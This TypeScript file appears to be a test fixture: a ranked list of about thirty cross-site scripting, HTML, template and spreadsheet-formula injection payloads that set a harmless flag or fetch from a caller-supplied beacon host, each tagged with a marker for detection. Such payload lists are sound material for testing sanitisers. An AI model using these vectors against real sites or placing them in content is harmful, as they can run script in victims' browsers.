/** `beacon`: the address of another site, which counts whoever comes. */
type MakePayload = (beacon: string) => string;

const ran = 'window.injected=1';

/** What is put where text belongs, in the hope that a browser takes it for something else. The most telling ones first. */
const payloads: MakePayload[] = [
  (beacon) => `<script src="${beacon}/script.js"></script>`,
  () => `<img src=x onerror="${ran}">`,
  (beacon) => `![a picture](${beacon}/picture.png)`,
  () => `[read more](javascript:${ran})`,
  () => `"><svg/onload=${ran}>`,
  (beacon) => `<iframe srcdoc="<script>parent.${ran}</script>" src="${beacon}/frame"></iframe>`,
  () => `</textarea></title></script><script>${ran}</script>`,
  (beacon) => `<link rel=stylesheet href="${beacon}/style.css"><style>@import "${beacon}/import.css"</style>`,
  () => `<input autofocus onfocus="${ran}">`,
  () => `' onmouseover='${ran}' style='position:fixed;inset:0' x='`,
  (beacon) => `<meta http-equiv=refresh content="0;url=${beacon}/refresh">`,
  (beacon) => `<base href="${beacon}/">`,
  () => `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
  () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  () => `<form><button formaction="javascript:${ran}">press</button></form>`,
  () => `<details open ontoggle="${ran}">`,
  () => `<video><source onerror="${ran}"></video>`,
  () => `<a href="data:text/html,<script>${ran}</script>">x</a>`,
  (beacon) => `<a href="${beacon}/ping" ping="${beacon}/ping">${beacon}/auto</a>`,
  () => `{{constructor.constructor('${ran}')()}}`,
  () => '${alert(1)}`;alert(1)//',
  () => `<img src="data:image/svg+xml,<svg onload='${ran}'/>">`,
  (beacon) => `<object data="${beacon}/object"></object><embed src="${beacon}/embed">`,
  () => `&lt;script&gt;${ran}&lt;/script&gt;`,
  () => `\u202e<script>${ran}</script>\u202c`,
  () => `<\u0000script>${ran}</script>`,
  () => `<mark>\ue000<script>${ran}</script>\ue001</mark>`,
  (beacon) => `<div style="background:url(${beacon}/background.png)">styled</div>`,
  (beacon) => `=HYPERLINK("${beacon}/cell","x")`,
  () => `<x is="a" slot=x id=root name=location>${'<b>'.repeat(10)}`,
];

export interface Payload {
  /** A word that stands beside it, by which it is found on a screen. */
  marker: string;
  text: string;
}

export function listPayloads(beacon: string, count: number): Payload[] {
  return payloads.slice(0, count).map((make, index) => ({ marker: `quoxel${index}`, text: make(beacon) }));
}
